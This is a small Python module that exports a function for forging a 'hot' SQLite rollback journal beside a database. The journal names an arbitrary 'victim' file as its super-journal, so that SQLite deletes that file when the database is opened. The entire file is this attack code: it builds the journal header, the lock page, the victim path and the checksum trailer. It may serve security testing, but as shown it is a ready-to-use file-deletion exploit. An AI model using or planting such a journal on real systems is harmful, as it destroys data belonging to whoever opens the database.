"""Files beside a database that make SQLite change or delete other files."""

import struct
from pathlib import Path

__all__ = ["write_hot_journal"]

# "Database File Format" of SQLite, section 3, "The Rollback Journal".
_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR = 512
_PAGE = 4096


def write_hot_journal(database: Path, victim: Path) -> Path:
    """Write a rollback journal that names `victim` as its super-journal; its path.

    SQLite plays it back when it opens the database, and then deletes the super-journal.
    """
    journal = Path(f"{database}-journal")
    name = str(victim.absolute()).encode()
    pages = max(database.stat().st_size // _PAGE, 1)
    header = _MAGIC + struct.pack(">5I", 0, 0, pages, _SECTOR, _PAGE)
    end_of_name = struct.pack(">2I", len(name), sum(name)) + _MAGIC
    lock_page = struct.pack(">I", 2**30 // _PAGE + 1)
    journal.write_bytes(header.ljust(_SECTOR, b"\0") + lock_page + name + end_of_name)
    return journal
